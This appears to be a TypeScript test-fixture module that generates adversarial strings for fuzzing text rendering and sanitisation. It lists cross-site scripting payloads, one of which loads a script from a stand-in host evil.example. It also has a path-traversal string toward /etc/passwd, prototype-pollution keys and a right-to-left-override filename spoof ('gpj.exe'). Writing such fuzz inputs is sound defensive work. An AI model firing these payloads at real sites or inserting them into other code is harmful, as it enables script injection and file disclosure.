/** Texts that try an injection or break the layout: markup, bidirectional overrides, invisible and stacked characters. */

const SCRIPTS = [
  "<script>globalThis.ran = 1</script>",
  '"><script src=//evil.example/x.js></script>',
  "<img src=x onerror=globalThis.ran=1>",
  "<svg/onload=globalThis.ran=1>",
  '<iframe srcdoc="<script>parent.ran=1</script>">',
  "javascript:globalThis.ran=1",
  "[a](javascript:globalThis.ran=1)",
  "data:text/html,<script>globalThis.ran=1</script>",
  "' onmouseover='globalThis.ran=1' autofocus onfocus='globalThis.ran=1",
  "</title><style>*{display:none}</style>",
  "{{constructor.constructor('globalThis.ran=1')()}}",
  "${globalThis.ran=1}",
  "<math><mtext></p><style><!--</style><img src onerror=globalThis.ran=1>",
  "https://example.org/\"onclick='globalThis.ran=1'",
  "%3Cscript%3EglobalThis.ran=1%3C/script%3E",
];

const OVERRIDES = ["\u202E", "\u202D", "\u2066", "\u2067", "\u2068", "\u2069", "\u200F", "\u061C", "\u202B\u202E"];
const INVISIBLE = ["\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF", "\u00AD", "\u180E", "\u2063", "\u3164", "\u115F"];
const WIDE = ["W".repeat(3), "\u{12219}", "\uFDFD", "ﷺ", "㍿", "\u2E3B", "𒐫"];
const EMOJI = ["👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👍🏿", "🇺🇳", "🫨", "❤️‍🔥", "🧑🏽‍🚀"];
const SCRIPTS_OF_THE_WORLD = ["שלום", "مرحبا", "नमस्ते", "สวัสดี", "ᠮᠣᠩᠭᠣᠯ", "မင်္ဂလာပါ", "ಠ_ಠ", "漢字"];

/** Stacked diacritics overflow their line. */
const stacked = (letter: string, marks: number) =>
  letter + Array.from({ length: marks }, (_, i) => String.fromCodePoint(0x300 + (i % 0x6f))).join("");

type Generate = (turn: number) => string;

const pick = <T>(list: readonly T[], turn: number): T => list[turn % list.length]!;

/** Each returns a different text for each number. */
const GENERATORS: readonly Generate[] = [
  (turn) => pick(SCRIPTS, turn),
  (turn) => `${pick(SCRIPTS, turn)} ${pick(OVERRIDES, turn)}${turn}`,
  (turn) => pick(OVERRIDES, turn).repeat(1 + (turn % 40)) + `gpj.exe ${turn}`,
  (turn) => `a${pick(INVISIBLE, turn).repeat(1 + (turn % 60))}b ${turn}`,
  (turn) => pick(WIDE, turn).repeat(30 + (turn % 200)) + turn,
  (turn) => `${turn}${"A".repeat(100 + ((turn * 37) % 900))}`,
  (turn) => `https://example.org/${"path/".repeat(turn % 80)}${"x".repeat(200)}?${turn}`,
  (turn) => pick(EMOJI, turn).repeat(1 + ((turn * 7) % 120)),
  (turn) => stacked("Z", 10 + (turn % 200)).repeat(1 + (turn % 8)) + turn,
  (turn) =>
    `${pick(SCRIPTS_OF_THE_WORLD, turn)}${pick(OVERRIDES, turn + 1)}${pick(SCRIPTS_OF_THE_WORLD, turn + 3)} ${turn}`,
  (turn) => `${turn}${"\n".repeat(turn % 60)}end`,
  (turn) => `${"\t".repeat(1 + (turn % 40))}${turn}\u2028\u2029\u0085`,
  (turn) => `@${"b".repeat(turn % 33)}_bot #${"t".repeat(150)} /${"c".repeat(70)} ${turn}`,
  (turn) => `${"(".repeat(turn % 50)}[${"*_~`|".repeat(turn % 50)}]${turn}`,
  (turn) => `../../../../etc/passwd${"/..".repeat(turn % 30)} C:\\con\\nul\\${turn}`,
  (turn) => `\u{E0001}${"\u{E0041}".repeat(turn % 40)}tagged ${turn}`,
  (turn) => `${"&lt;".repeat(turn % 30)}&#0;&#x202E;&nbsp;${turn}`,
  (turn) => `__proto__ constructor toString ${"0".repeat(300)}${turn}`,
  (turn) => `-${"9".repeat(turn % 300)}e999 NaN undefined null [object Object] ${turn}`,
  (turn) => `${"🔥\u200D".repeat(turn % 100)}${turn}`,
];

/** @returns this many texts, all of different kinds or lengths */
export function injectionTexts(count: number): string[] {
  return Array.from({ length: count }, (_, i) => pick(GENERATORS, i)(Math.floor(i / GENERATORS.length)));
}

/** The beginning of a text up to the maximum length, in whole characters, and never empty. */
export function cut(text: string, most: number): string {
  const short = [...text].slice(0, most);
  while (short.join("").length > most) short.pop();
  return /[\p{L}\p{N}\p{S}\p{P}]/u.test(short.join("")) ? short.join("") : `${[...short].slice(0, most - 2).join("")}x`;
}
